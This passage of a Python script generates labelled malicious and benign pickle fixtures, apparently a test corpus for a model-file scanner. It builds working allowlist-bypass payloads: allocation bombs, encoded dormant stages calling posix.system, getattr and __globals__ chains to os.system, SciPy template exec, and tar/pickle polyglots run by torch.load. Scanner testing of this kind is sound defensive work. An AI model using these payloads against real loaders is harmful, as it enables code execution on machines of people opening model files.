        good(C, f"benign_{fmt}.pkl", pickle.dumps(mk(dense), 4), f"a valid {fmt.upper()} matrix")
        m = mk(dense)
        m.indices[1] = 1_000_000
        bad(C, f"{fmt}_index_out_of_bounds.pkl", pickle.dumps(m, 4), "P21", [], f"{fmt.upper()} with an index past its shape")
        m = mk(dense)
        m.indptr[-1] = 1_000_000
        bad(C, f"{fmt}_indptr_past_data.pkl", pickle.dumps(m, 4), "P21", [], f"{fmt.upper()} whose indptr points past data")
        m = mk(dense)
        m.indptr[1] = -5
        bad(C, f"{fmt}_indptr_negative.pkl", pickle.dumps(m, 4), "P21", [], f"{fmt.upper()} with a negative, non-monotonic indptr")
    coo = sparse.coo_matrix(dense)
    good(C, "benign_coo.pkl", pickle.dumps(coo, 4), "a valid COO matrix")
    coo = sparse.coo_matrix(dense)
    coo.row[0] = 99_999
    bad(C, "coo_row_out_of_bounds.pkl", pickle.dumps(coo, 4), "P21", [], "COO with a row index past its shape")
    coo = sparse.coo_matrix(dense)
    coo.col[2] = -7
    bad(C, "coo_col_negative.pkl", pickle.dumps(coo, 4), "P21", [], "COO with a negative column index")
    # The same bombs behind allowlisted carriers that call an argument (the direct-call bound misses them).
    BA = g("builtins", "bytearray")
    bad(C, "bomb_via_randomstate_ctor.pkl", pk(call(g("numpy.random._pickle", "__randomstate_ctor"), 10**12, BA)), "P21",
        ["builtins.bytearray"], "__randomstate_ctor(10**12, bytearray) calls bytearray(10**12)")
    bad(C, "bomb_via_rebuild_from_type.pkl", pk(call(g("torch._tensor", "_rebuild_from_type"), BA, g("torch", "Tensor"), (10**12,), {})),
        "P21", ["builtins.bytearray"], "_rebuild_from_type(bytearray, Tensor, (10**12,), {}) calls bytearray(10**12)")
    bad(C, "bomb_via_reconstructor.pkl", pk(call(g("copyreg", "_reconstructor"), BA, BA, 10**12)), "P21", ["builtins.bytearray"],
        "_reconstructor(bytearray, bytearray, 10**12) runs bytearray.__init__(obj, 10**12)")
    bad(C, "bomb_via_partial_defaultdict.pkl", pk(call(g("collections", "defaultdict"), call(g("functools", "partial"), BA, 10**12))),
        "P21", ["builtins.bytearray"], "defaultdict(partial(bytearray, 10**12)): a dormant bomb on the first missing key")
    bad(C, "bomb_via_partial_build_state.pkl",
        pk(call(g("collections", "defaultdict"), build(new(g("functools", "partial"), g("builtins", "list")), (BA, (10**12,), {}, None)))),
        "P21", ["builtins.bytearray"], "partial(list) whose BUILD state makes it partial(bytearray, 10**12)")
    bad(C, "bomb_range_in_deque.pkl", pk(call(g("collections", "deque"), call(g("builtins", "range"), 10**15))), "P21",
        ["builtins.range"], "deque(range(10**15))")
    bad(C, "bomb_range_in_bytes.pkl", pk(call(g("builtins", "bytes"), call(g("builtins", "range"), 0, 10**12, 10**12 // 2**40 or 1))), "P21",
        ["builtins.range"], "bytes(range(...)) consumed element by element")
    bad(C, "bomb_range_via_memo.pkl",
        pk(Raw(call(g("builtins", "range"), 10**15) + put(7) + POP), call(g("builtins", "list"), get(7))), "P21",
        ["builtins.range"], "list(memo[7]) where memo[7] = range(10**15)")
    bad(C, "bomb_bytearray_via_memo_int.pkl",
        pk(Raw(i(10**12) + put(3) + POP), call(g("builtins", "bytearray"), get(3))), "P21", ["builtins.bytearray"],
        "bytearray(memo[3]) with the size parked in the memo")
    bad(C, "bomb_subarray_dtype.pkl",
        pk(call(g("numpy._core.multiarray", "_reconstruct"), g("numpy", "ndarray"), (4,), call(g("numpy", "dtype"), ("f8", (2**20, 2**20))))), "P21",
        ["numpy.dtype"], "an array of 4 elements of a subarray dtype of 2**40 float64 each")
    bad(C, "bomb_torch_size_range.pkl", pk(call(g("torch", "Size"), call(g("builtins", "range"), 10**15))), "P21",
        ["builtins.range"], "torch.Size(range(10**15)): an allowlisted class that iterates its argument")
    bad(C, "bomb_deque_maxlen_range.pkl", pk(call(g("collections", "deque"), call(g("builtins", "range"), 10**15), 1)), "P21",
        ["builtins.range"], "deque(range(10**15), 1): constant memory, hours of CPU")
    # Mapping consumers call obj.keys() looked up on the *instance*: BUILD state puts a partial there.
    for cons, extra in (("OrderedDict", ()), ("defaultdict", (None,))):
        ns = build(call(g("argparse", "Namespace")), {"keys": call(g("functools", "partial"), g("builtins", "list"), call(g("builtins", "range"), 10**15))})
        bad(C, f"bomb_{cons.lower()}_keys_attribute.pkl", pk(call(g("collections", cons), *extra, ns)), "P21", ["builtins.range"],
            f"collections.{cons}(ns) calls ns.keys(), an instance attribute = partial(list, range(10**15)); only allowlisted names "
            "(checked: OrderedDict/dict/defaultdict look keys up on the instance; Counter does not)")
    ns = build(call(g("argparse", "Namespace")), {"keys": call(g("functools", "partial"), g("builtins", "bytearray"), 2**36)})
    bad(C, "bomb_dict_keys_attribute_bytearray.pkl", pk(call(g("builtins", "dict"), ns)), "P21", ["builtins.bytearray"],
        "dict(ns) calls ns.keys() = partial(bytearray, 2**36): 64 GiB from allowlisted names")
    # Benign twins of the allocation class.
    good(C, "benign_bytearray_small.pkl", pk(call(g("builtins", "bytearray"), b"\x00\x01\x02")), "bytearray(b'...') of 3 bytes")
    good(C, "benign_bytes_16.pkl", pk(call(g("builtins", "bytes"), 16)), "bytes(16)")
    good(C, "benign_frozenset_range_small.pkl", pk(call(g("builtins", "frozenset"), call(g("builtins", "range"), 8))), "frozenset(range(8))")


# ---------------------------------------------------------------- P22: dormant second stages

def make_dormant() -> None:
    C = "dormant"
    stage2 = pk(call(SYSTEM, CMD))
    stage2_unknown = pk(call(READ_OUTPUT, CMD))
    variants = {
        "raw_bytes": stage2,
        "raw_str": stage2.decode("latin1"),
        "base64": base64.b64encode(stage2).decode(),
        "base64_bytes": base64.b64encode(stage2),
        "hex": stage2.hex(),
        "zlib": zlib.compress(stage2),
        "zlib_base64": base64.b64encode(zlib.compress(stage2)).decode(),
        "urlsafe_b64": base64.urlsafe_b64encode(stage2).decode(),
    }
    for label, blob in variants.items():
        model = {"state_dict": {"w": [0.5, 0.25]}, "config": {"hidden": 8}, "extra_state": blob}
        bad(C, f"second_stage_{label}.pkl", pk(dct(model)), "P22", ["posix.system"],
            f"a model dict whose 'extra_state' holds a pickle calling posix.system as {label}; nothing calls loads here")
    bad(C, "second_stage_unknown_base64.pkl",
        pk(dct({"w": [1.0], "extra_state": base64.b64encode(stage2_unknown).decode()})), "P22", ["_osx_support._read_output"],
        "a base64 second stage that calls an unknown gadget")
    bad(C, "second_stage_in_list_zlib.pkl",
        pk(dct({"history": ["epoch 1", zlib.compress(stage2_unknown), "epoch 2"]})), "P22", ["_osx_support._read_output"],
        "a zlib-compressed second stage in a list of log lines")
    good(C, "benign_base64_text.pkl",
         pk(dct({"w": [1.0], "thumbnail": base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(64))).decode(),
                 "id": "ab" * 16})), "base64 of PNG bytes and a hex id: not pickles")
    good(C, "benign_nested_plain_pickle.pkl", pk(dct({"cached": pickle.dumps({"a": [1, 2]}, 2)})),
         "bytes holding a pickle of plain data (what caches do)")


# ---------------------------------------------------------------- P4/P5/P16: memo and stack games

def make_memo() -> None:
    C = "memo"
    # A safe global in slot 0, overwritten by a dangerous one, then called through GET.
    bad(C, "memo_swap_put.pkl",
        pk(Raw(g("collections", "OrderedDict") + put(0) + POP + READ_OUTPUT + put(0) + POP + get(0)), tup(CMD), Raw(REDUCE)),
        "P16", ["_osx_support._read_output"], "memo[0] = OrderedDict, then memo[0] = _read_output, GET 0 called")
    bad(C, "memo_get_callable_later.pkl",
        pk(Raw(EMPTY_LIST + MARK + READ_OUTPUT + put(5) + APPENDS + POP),
           call(get(5), CMD)), "P4", ["_osx_support._read_output"],
        "_read_output parked in a discarded list's memo slot, called much later via BINGET")
    bad(C, "memo_get_into_map.pkl",
        pk(Raw(READ_OUTPUT + put(3) + POP), call(g("builtins", "list"), new(g("builtins", "map"), get(3), [CMD]))), "P19",
        ["_osx_support._read_output"], "map(memo[3], xs): the callee reaches map only through the memo")
    bad(C, "stack_global_from_memo.pkl",
        pk(Raw(s("_osx_support") + MEMOIZE + POP + s("_read_output") + MEMOIZE + POP + b"h\x00" + b"h\x01" + STACK_GLOBAL),
           tup(CMD), Raw(REDUCE), proto=4), "P4", ["_osx_support._read_output"],
        "STACK_GLOBAL whose module and name come from MEMOIZE slots")
    bad(C, "stack_global_memo_into_map.pkl",
        pk(call(g("builtins", "list"), new(g("builtins", "map"),
                                           Raw(s("_osx_support") + MEMOIZE + s("_read_output") + MEMOIZE + STACK_GLOBAL),
                                           [CMD])), proto=4),
        "P19", ["_osx_support._read_output"], "a STACK_GLOBAL callee given straight to NEWOBJ map")
    bad(C, "newobj_ex_map.pkl", pk(call(g("builtins", "list"), new_ex(g("builtins", "map"), (READ_OUTPUT, [CMD]), {})), proto=4),
        "P5", ["_osx_support._read_output"], "NEWOBJ_EX builds map(f, xs) for list()")
    bad(C, "newobj_ex_filehandler.pkl", pk(new_ex(g("logging", "FileHandler"), (TMP,), {"delay": False}), proto=4),
        "P5", ["logging.FileHandler"], "NEWOBJ_EX of logging.FileHandler")
    # Protocol 0/1 INST and OBJ.
    inst = b"(S'" + CMD.encode() + b"'\ni_osx_support\n_read_output\n."
    NAMES_USED.add(("_osx_support", "_read_output"))
    bad(C, "inst_proto0.pkl", inst, "P5", ["_osx_support._read_output"], "protocol 0 INST _osx_support._read_output")
    obj = b"(" + bytes(READ_OUTPUT) + b"S'" + CMD.encode() + b"'\no."
    bad(C, "obj_proto1.pkl", obj, "P5", ["_osx_support._read_output"], "protocol 1 OBJ")
    inst_map = b"c__builtin__\nlist\n((c_osx_support\n_read_output\n(S'" + CMD.encode() + b"'\nlibuiltins\nmap\ntR."
    bad(C, "inst_map_proto0.pkl", inst_map, "P19", ["_osx_support._read_output"],
        "protocol 0: INST builtins.map(_read_output, [cmd]) consumed by list()")
    # BUILD with __setstate__ / dunder keys on allowlisted classes.
    for key in ("__class__", "__reduce__", "__reduce_ex__", "__getattr__", "__setstate__", "__dict__"):
        bad(C, f"build_dunder{key}.pkl",
            pk(build(call(g("collections", "OrderedDict")), ({key: READ_OUTPUT}, None))), "P16", [key],
            f"BUILD on an allowlisted OrderedDict with {key} in its state")
    bad(C, "build_setstate_namespace.pkl",
        pk(build(call(g("argparse", "Namespace")), {"__setstate__": READ_OUTPUT, "lr": 0.1})), "P16", ["__setstate__"],
        "argparse.Namespace with __setstate__ in its state")
    bad(C, "build_slotstate_callable.pkl",
        pk(build(new(g("torch.nn.modules.linear", "Linear")), (None, {"forward": READ_OUTPUT}))), "P19",
        ["_osx_support._read_output"], "Linear whose slot-state (second BUILD item) sets forward")
    # rv_generic.__setstate__ exec()s _parse_arg_template, which comes from the pickled state (a real
    # gadget, found by the allowlist screen): SciPy's own template passes, the same file with code in
    # its place (same length, so the stream stays well formed) does not.
    import scipy.stats
    real = pickle.dumps(scipy.stats.norm, 4)
    good(C, "benign_scipy_norm.pkl", real, "scipy.stats.norm pickled by SciPy: its template is SciPy's own")
    bad(C, "scipy_norm_state_exec.pkl", swapped_template(real), "P2", ["norm_gen", "_parse_arg_template"],
        "scipy.stats.norm with its _parse_arg_template replaced by code: unpickling exec()s it")
    good(C, "benign_doc_in_state.pkl",
         pk(build(call(g("argparse", "Namespace")), {"__doc__": "results of a fit", "nobs": 3})),
         "__doc__ as a plain string attribute in a BUILD state")
    good(C, "benign_memo_reuse.pkl",
         pk(Raw(g("collections", "OrderedDict") + put(0) + EMPTY_TUPLE + REDUCE + put(1) + POP),
            lst(Raw(get(0) + EMPTY_TUPLE + REDUCE), get(1))),
         "an OrderedDict class reused from the memo, as the pickler writes it")


def swapped_template(data: bytes) -> bytes:
    """A SciPy distribution pickle with its argument-parser template replaced by code of the same length."""
    start = data.index(b"\ndef _parse_args(self,")
    end = data.index(b"moments\n", start) + len(b"moments\n")
    code = b"import os\nos.system('echo modelgate-redteam')\n#"
    return data[:start] + code.ljust(end - start, b"#") + data[end:]


# ---------------------------------------------------------------- getattr for enums

def make_enums() -> None:
    C = "enums"
    GA = g("builtins", "getattr")
    bad(C, "getattr_posix_system.pkl", pk(call(call(GA, call(g("_frozen_importlib", "_gcd_import"), "posix"), "system"), CMD)), "P3", ["builtins.getattr"],
        "getattr(_gcd_import('posix'), 'system')(cmd)")
    bad(C, "getattr_module_system.pkl", pk(call(call(GA, sg("sklearn.datasets._base", "os"), "system"), CMD), proto=4), "P3",
        ["builtins.getattr"], "getattr(sklearn.datasets._base.os, 'system')")
    bad(C, "getattr_class_init.pkl", pk(call(GA, g("collections", "OrderedDict"), "__init__")), "P3", ["builtins.getattr"],
        "getattr(OrderedDict, '__init__')")
    bad(C, "getattr_enum_class.pkl", pk(call(GA, g("http", "HTTPStatus"), "__class__")), "P3", ["builtins.getattr"],
        "getattr(HTTPStatus, '__class__') = EnumType, a metaclass that builds classes")
    bad(C, "getattr_enum_subclasses.pkl", pk(call(call(GA, g("enum", "Enum"), "__subclasses__"))), "P3", ["builtins.getattr"],
        "getattr(Enum, '__subclasses__')()")
    bad(C, "getattr_enum_member_method.pkl", pk(call(call(GA, call(GA, g("http", "HTTPStatus"), "OK"), "__reduce_ex__"), 2)), "P3",
        ["builtins.getattr"], "getattr(getattr(HTTPStatus, 'OK'), '__reduce_ex__')(2)")
    bad(C, "getattr_enum_then_map.pkl",
        pk(call(g("builtins", "list"), new(g("builtins", "map"), call(GA, g("re", "RegexFlag"), "_missing_"), [1]))), "P3",
        ["builtins.getattr"], "map(getattr(RegexFlag, '_missing_'), xs): a non-member attribute used as a callable")
    # getattr is allowed for "a builtin data type's method": methods that allocate or walk attributes.
    for label, expr, note in [
        ("str_mul", call(call(GA, g("builtins", "str"), "__mul__"), "x", 10**12), "str.__mul__('x', 10**12): a terabyte string"),
        ("bytes_zfill", call(call(GA, g("builtins", "bytes"), "zfill"), b"", 10**12), "bytes.zfill(b'', 10**12)"),
        ("str_ljust", call(call(GA, g("builtins", "str"), "ljust"), "", 10**12), "str.ljust('', 10**12)"),
        ("dict_fromkeys_range", call(call(GA, g("builtins", "dict"), "fromkeys"), call(g("builtins", "range"), 10**12)), "dict.fromkeys(range(10**12))"),
        ("int_pow", call(call(GA, g("builtins", "int"), "__pow__"), 10, 10**10), "int.__pow__(10, 10**10): minutes of CPU and gigabytes"),
        ("list_mul", call(call(GA, g("builtins", "list"), "__mul__"), [0], 10**12), "list.__mul__([0], 10**12)"),
    ]:
        bad(C, f"getattr_method_bomb_{label}.pkl", pk(expr), "P21", ["builtins.getattr"], f"getattr convention for builtin methods: {note}")
    OGA = call(GA, g("builtins", "object"), "__getattribute__")
    DGET = call(GA, g("builtins", "dict"), "get")
    globs = call(OGA, g("torch._utils", "_rebuild_tensor"), "__globals__")
    imp = call(DGET, globs, "importlib")
    chain = call(call(OGA, call(call(OGA, imp, "import_module"), "posix"), "system"), CMD)
    bad(C, "getattr_object_getattribute_globals.pkl", pk(chain), "P3", ["builtins.getattr"],
        "object.__getattribute__(torch._utils._rebuild_tensor, '__globals__') -> dict.get(..., 'importlib') -> import_module('posix').system(cmd), only allowlisted names")
    bad(C, "getattr_dict_get_globals_simple.pkl",
        pk(call(DGET, call(OGA, g("copyreg", "_reconstructor"), "__globals__"), "__builtins__")), "P3", ["builtins.getattr"],
        "dict.get(copyreg._reconstructor.__globals__, '__builtins__'): the builtins dict from allowlisted names")
    bad(C, "getattr_safeuuid_missing.pkl", pk(call(call(GA, g("uuid", "SafeUUID"), "_missing_"), 1)), "P3", ["_missing_"],
        "getattr(uuid.SafeUUID, '_missing_') on an allowlisted enum: not a member")
    bad(C, "getattr_safeuuid_new.pkl", pk(call(GA, g("uuid", "SafeUUID"), "__new__")), "P3", ["__new__"],
        "getattr(uuid.SafeUUID, '__new__')")
    bad(C, "getattr_enum_class_mro.pkl", pk(call(call(GA, g("enum", "Enum"), "__subclasses__"))), "P3", ["__subclasses__"],
        "getattr(enum.Enum, '__subclasses__')() on the allowlisted Enum base")
    good(C, "benign_getattr_safeuuid_safe.pkl", pk(call(GA, g("uuid", "SafeUUID"), "safe")), "getattr(uuid.SafeUUID, 'safe'): an allowlisted enum's member")
    good(C, "benign_getattr_httpstatus_ok.pkl", pk(call(GA, g("http", "HTTPStatus"), "OK")),
         "getattr(http.HTTPStatus, 'OK'): how Python 3.12+ pickles some enum members")
    good(C, "benign_getattr_regexflag.pkl", pk(call(GA, g("re", "RegexFlag"), "IGNORECASE")),
         "getattr(re.RegexFlag, 'IGNORECASE')")
    good(C, "benign_enum_by_value.pkl", pk(call(g("re", "RegexFlag"), 2)), "RegexFlag(2): enum member by value")


# ---------------------------------------------------------------- Cython __pyx_unpickle helpers

def make_cython() -> None:
    C = "cython"
    import numpy as np
    from sklearn.utils._fast_dict import IntFloatDict
    real = pickle.dumps(IntFloatDict(np.array([1, 2], dtype=np.intp), np.array([0.5, 1.5])), 2)
    good(C, "benign_intfloatdict.pkl", real, "IntFloatDict pickled by Cython: __pyx_unpickle_IntFloatDict(IntFloatDict, checksum, state)")
    checksum = struct.unpack("<i", real[real.index(b"J") + 1: real.index(b"J") + 5])[0]
    helper = g("sklearn.utils._fast_dict", "__pyx_unpickle_IntFloatDict")
    # A helper runs Class.__new__(type), and CPython refuses a type that is not Class or a subtype
    # (checked against scikit-learn's compiled helpers): another allowlisted class only fails the load.
    good(C, "pyx_unpickle_foreign_cython.pkl", pk(call(helper, g("sklearn.cluster._hierarchical_fast", "UnionFind"), checksum, ({1: 0.5},))),
         "__pyx_unpickle_IntFloatDict asked to rebuild UnionFind: IntFloatDict.__new__(UnionFind) raises TypeError, nothing runs")
    for label, cls in [("reexport", g("sklearn.datasets._covtype", "GzipFile")),
                       ("unknown_fn", READ_OUTPUT),
                       ("system", SYSTEM)]:
        bad(C, f"pyx_unpickle_{label}.pkl", pk(call(helper, cls, checksum, ({1: 0.5},))), "P16",
            ["__pyx_unpickle_IntFloatDict"], f"__pyx_unpickle_IntFloatDict asked to rebuild {label}")
    good(C, "pyx_unpickle_wrong_module.pkl",
         pk(call(g("sklearn.cluster._hierarchical_fast", "__pyx_unpickle_UnionFind"), g("sklearn.utils._fast_dict", "IntFloatDict"), checksum, None)),
         "a helper of one module asked to rebuild an allowlisted class of another: CPython's subtype check fails the load, nothing runs")
    bad(C, "pyx_unpickle_state_callable.pkl", pk(call(helper, g("sklearn.utils._fast_dict", "IntFloatDict"), checksum, (READ_OUTPUT,))),
        "P19", ["_osx_support._read_output"], "the real helper and class, with a callable hidden in its state")


# ---------------------------------------------------------------- public record

def make_public() -> None:
    C = "public"
    # ModelAudit PR 1061 dispatch surfaces: regex callbacks, weakref callbacks, string formatting.
    bad(C, "re_sub_callback.pkl",
        pk(call(g("re", "sub"), ".+", READ_OUTPUT, CMD)), "P2", ["re.sub"], "re.sub(pattern, repl=callable, s) calls repl per match")
    bad(C, "re_compiled_sub_callback.pkl",
        pk(call(g("builtins", "list"), new(g("builtins", "map"), READ_OUTPUT, call(g("re", "findall"), ".+", CMD)))), "P19",
        ["_osx_support._read_output"], "map(_read_output, re.findall('.+', cmd))")
    bad(C, "weakref_finalize.pkl",
        pk(call(g("weakref", "finalize"), call(g("argparse", "Namespace")), READ_OUTPUT, CMD)), "P2", ["weakref.finalize"],
        "weakref.finalize(obj, f, arg): f(arg) runs when obj dies (at once, as nothing keeps it)")
    bad(C, "string_formatter_walk.pkl",
        pk(call(sg("builtins", "str.format"), "{0.__globals__[os]}", g("_osx_support", "_read_output")), proto=4), "P16",
        ["str.format"], "'{0.__globals__[os]}'.format(f): attribute walks done by str.format in C")
    # Alternative execution primitives (modelscan issue 338, picklescan advisories).
    for m, n, args in [("torch.utils.collect_env", "run", (CMD,)), ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", ("/bin/sh", "-c", CMD), ())),
                       ("ensurepip", "_run_pip", (["--version"],)), ("pkgutil", "resolve_name", ("os:system",)),
                       ("torch.utils.model_zoo", "load_url", ("file:///etc/hostname",)),
                       ("torch.multiprocessing", "spawn", (g("builtins", "print"),)),
                       ("torch.package.package_importer", "PackageImporter", (HOST,)),
                       ("numpy.lib._datasource", "open", (HOST,)),
                       ("_sitebuiltins", "_Printer", ("license", "", [], [HOST]))]:
        bad(C, f"primitive_{m.replace('.', '_')}_{n}.pkl".replace("__", "_"), pk(call(g(m, n), *args)), "P2", [f"{m}.{n}"],
            f"{m}.{n}: an execution/IO primitive from the public record")
    # The same primitives given to an allowlisted consumer instead of a direct call.
    for m, n, args in [("torch.utils.model_zoo", "load_url", ("file:///etc/hostname",)), ("torch.multiprocessing", "spawn", (g("builtins", "print"),)),
                       ("pkgutil", "resolve_name", ("os:system",))]:
        bad(C, f"starmap_{m.replace('.', '_')}_{n}.pkl", pk(call(g("builtins", "list"), new(g("itertools", "starmap"), g(m, n), [tuple(args)]))),
            "P19", [f"{m}.{n}"], f"list(starmap({m}.{n}, [args]))")
    # Exception-oriented programming ("The Art of Hide and Seek"): the payload runs, then the stream
    # raises on purpose so a loader's except-branch takes a fallback path and the load "succeeds".
    bad(C, "eop_payload_then_raise.pkl",
        pk(Raw(dct({"w": [1.0], "x": call(g("builtins", "list"), new(g("builtins", "map"), READ_OUTPUT, [CMD]))}) + POP),
           Raw(call(g("builtins", "ValueError"), "unsupported") + EMPTY_TUPLE + REDUCE)),
        "P9", ["_osx_support._read_output"], "EOP: a composed payload first, then a REDUCE on an exception instance raises")
    # PickleBall: library callables that return callables or objects whose methods the loader calls.
    bad(C, "pickleball_lr_lambda.pkl",
        pk(build(new(g("torch.optim.lr_scheduler", "LambdaLR")), {"lr_lambdas": [READ_OUTPUT], "last_epoch": 0, "base_lrs": [0.1]})),
        "P19", ["_osx_support._read_output"], "LambdaLR state whose lr_lambdas run on scheduler.step() (allowlisted family class)")
    bad(C, "pickleball_sklearn_functiontransformer.pkl",
        pk(build(new(g("sklearn.preprocessing._function_transformer", "FunctionTransformer")), {"func": READ_OUTPUT, "validate": False})),
        "P19", ["_osx_support._read_output"], "FunctionTransformer whose func is a gadget: transform() calls it")
    import numpy as np
    from sklearn.preprocessing import FunctionTransformer
    good(C, "benign_functiontransformer_log1p.pkl", pickle.dumps(FunctionTransformer(func=np.log1p).fit(np.ones((2, 2))), 4),
         "a fitted FunctionTransformer(numpy.log1p) pickled by scikit-learn: a ufunc held as state")


def check() -> int:
    """Every gadget module resolves to the attribute named (no call is made)."""
    skip = {"modelgate_redteam_nolib.payload", "antigravity", "this"}
    bad_names = []
    for m, n in sorted(NAMES_USED):
        if m in skip or m in ("__builtin__", "exceptions", "UserDict", "whichdb", "copy_reg") or (m == "itertools" and n.startswith("i")):
            continue
        try:
            obj = importlib.import_module(m)
            for part in n.split("."):
                obj = getattr(obj, part)
        except Exception as e:  # noqa: BLE001
            bad_names.append(f"{m}.{n}: {type(e).__name__} {e}")
    print("\n".join(bad_names) or "every gadget name resolves")
    return 1 if bad_names else 0


def tar_member(name: str, data: bytes) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)


def torch_tar(pickle_member: bytes) -> bytes:
    """The members torch's oldest (tar) layout needs: storages and tensors (none of either), then the
    pickle torch.load runs, and the end of the archive."""
    none = pickle.dumps(0, protocol=2)
    return tar_member("storages", none) + tar_member("tensors", none) + tar_member("pickle", pickle_member) + bytes(1024)


def first_header(start: bytes, signed: bool) -> bytearray:
    """A tar header block whose name field begins with `start`: an empty regular file (size 0), its
    checksum the unsigned byte sum, or the signed one old tars wrote (tarfile accepts both)."""
    block = bytearray(512)
    block[0:len(start)] = start
    for at, field in ((100, b"0000644\0"), (108, b"0000000\0"), (116, b"0000000\0"), (124, b"00000000000\0"), (136, b"00000000000\0")):
        block[at:at + len(field)] = field
    block[156] = ord("0")
    block[148:156] = b" " * 8
    total = sum(block) if not signed else sum(b - 256 if b > 127 else b for b in block)
    block[148:156] = b"%06o\0 " % total
    return block


def make_polyglots() -> None:
    """Files that are a tar as well as a pickle (P18). torch.load opens any file that is not a zip as a
    tar first and, when it holds storages, tensors and pickle members, runs that pickle; pickle.load runs
    the pickle the file starts with. Each file needs both read."""
    system = b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR."
    # The legacy layout's magic number and protocol pickles in the header's name field; the system-info
    # pickle is one bytes constant swallowing the rest of the header and the tar's members.
    legacy_head = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    members = torch_tar(system)
    opening = legacy_head + b"\x80\x02B"
    swallowed = 512 - len(opening) - 4 + len(members)
    header = first_header(opening + struct.pack("<I", swallowed), signed=False)
    legacy = bytes(header) + members + STOP + pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + pickle.dumps([], protocol=2)
    bad("polyglot", "legacy_checkpoint_tar.pt", legacy, "P18", ["posix.system"],
        "the legacy torch.save layout (magic number, protocol, system info, object, keys) whose first pickles sit in a tar header: torch.load takes the tar and runs its pickle member")
    # A benign pickle in the name field (protocol 2: its first byte makes the signed sum differ).
    data = pickle.dumps({"step": 1}, protocol=2)
    bad("polyglot", "pickle_tar_signed_checksum.pt", bytes(first_header(data, signed=True)) + torch_tar(system), "P18", ["posix.system"],
        "a harmless pickle that is also a tar (signed header checksum, which tarfile accepts): torch.load runs the tar's pickle member")
    benign = pickle.dumps({"step": 1}, protocol=2)
    bad("polyglot", "tar_starting_with_pickle.pt", bytes(first_header(system, signed=False)) + torch_tar(benign), "P18", ["posix.system"],
        "a torch tar checkpoint with a harmless pickle member whose first header's name field is a pickle: pickle.load of the file runs it")


# ---------------------------------------------------------------- P19: BUILD answered by what the object holds

def make_forwarding() -> None:
    """BUILD calls what looking __setstate__ up on the object returns: a class without one but with a
    __getattr__ that forwards (numpy's user_array.container, accelerate's DataLoaderAdapter) or that
    serves items or a dict attribute as attributes (SciPy's _RichResult, scipy.odr's Model) answers with
    what the object holds. Round 20 reached a SciPy distribution's __setstate__, which exec()s its
    _parse_arg_template, and a stored-only pow."""
    C = "forwarding"
    dist = new(g("scipy.stats._continuous_distns", "norm_gen"))
    template = {"_parse_arg_template": "print('modelgate-fixture')"}
    for module, name, attr in [("numpy.lib.user_array", "container", "array"), ("accelerate.data_loader", "DataLoaderAdapter", "base_dataloader")]:
        twice = build(build(new(g(module, name)), {attr: dist}), template)
        bad(C, f"second_build_{name}.pkl", pk(twice), "P19", ["already given a state"],
            f"{name}: a first BUILD stores a SciPy distribution, the second BUILD's state goes to its __setstate__ (exec)")
    power = new(g("functools", "partial"), g("builtins", "pow"), 10)
    meta = build(build(new(g("scipy.odr._odrpack", "Model")), {"meta": {"__setstate__": power}}), 7)
    bad(C, "odr_model_meta_setstate.pkl", pk(meta), "P19", ["__setstate__"], "scipy.odr Model serves its meta dict as attributes: a planted __setstate__ gets the next BUILD's state")
    items = Raw(c(new(g("scipy._lib._util", "_RichResult"))) + MARK + c("__setstate__") + c(power) + SETITEMS)
    bad(C, "richresult_item_setstate.pkl", pk(build(items, 7)), "P19", ["__setstate__"], "_RichResult serves its items as attributes: an item named __setstate__ gets BUILD's state")
    made = call(call(g("builtins", "getattr"), g("builtins", "str"), "join"), "", ["__set", "state__"])
    keyed = Raw(c(new(g("scipy._lib._util", "_RichResult"))) + MARK + c(made) + c(power) + SETITEMS)
    bad(C, "richresult_made_key.pkl", pk(build(keyed, 7)), "P19", ["keys made at load time"], "the same with the key made at load time (str.join)")
    # A forwarder made WITH what it forwards to: its first and only BUILD already forwards (round 21).
    import scipy.stats
    genuine = {"_stats_has_moments": True, "_random_state": None, "badvalue": float("nan"), "name": "norm", "a": float("-inf"),
               "b": float("inf"), "xtol": 1e-14, "moment_type": 1, "shapes": None, "numargs": 0, "shape": (),
               "_parse_arg_template": scipy.stats.norm._parse_arg_template}
    held = Raw(c(build(dist, genuine)) + put(1))
    made = Raw(held + b"0" + c(call(g("numpy.lib", "Arrayterator"), get(1))))
    bad(C, "arrayterator_made_with_distribution.pkl", pk(build(made, template)), "P19", ["Arrayterator"],
        "Arrayterator(N) holds a SciPy distribution given its genuine state; BUILD on the Arrayterator forwards to N's __setstate__ (exec)")
    key = call(call(g("builtins", "getattr"), g("builtins", "str"), "join"), "", ["__set", "state__"])
    mapping = Raw(EMPTY_DICT + c(key) + c(power) + b"s")
    for how, obj in [("reduce", call(g("scipy._lib._util", "_RichResult"), mapping)),
                     ("reconstructor", call(g("copyreg", "_reconstructor"), g("scipy._lib._util", "_RichResult"), g("builtins", "dict"), mapping))]:
        bad(C, f"richresult_made_with_computed_key_{how}.pkl", pk(build(obj, 7)), "P19", ["_RichResult"],
            f"_RichResult made ({how}) from a dict whose key, made at load, is __setstate__: BUILD calls what is stored under it")
    # APPEND(S) and ADDITEMS look extend/append and add up on the object the same way.
    rich = c(new(g("scipy._lib._util", "_RichResult")))
    appended = Raw(rich + MARK + c("append") + c(power) + SETITEMS + MARK + c(7) + APPENDS)
    bad(C, "richresult_item_append.pkl", pk(appended), "P19", ["append, extend or add"], "_RichResult serves its items as attributes: APPENDS calls the item named append")
    added = Raw(rich + MARK + c("add") + c(power) + SETITEMS + MARK + c(7) + ADDITEMS)
    bad(C, "richresult_item_add.pkl", pk(added, proto=4), "P19", ["append, extend or add"], "ADDITEMS calls the item named add")
    extended = Raw(c(build(new(g("scipy.odr._odrpack", "Model")), {"meta": {"extend": power}})) + MARK + c(7) + APPENDS)
    bad(C, "odr_model_meta_extend.pkl", pk(extended), "P19", ["append, extend or add"], "scipy.odr Model serves its meta dict as attributes: APPENDS calls meta['extend']")
    import nltk
    good(C, "benign_nltk_tree.pkl", pickle.dumps(nltk.Tree("S", [nltk.Tree("NP", ["it"]), "runs"]), protocol=2), "an NLTK Tree (a list subclass: APPENDS on an object) as pickle writes it")
    import numpy as np
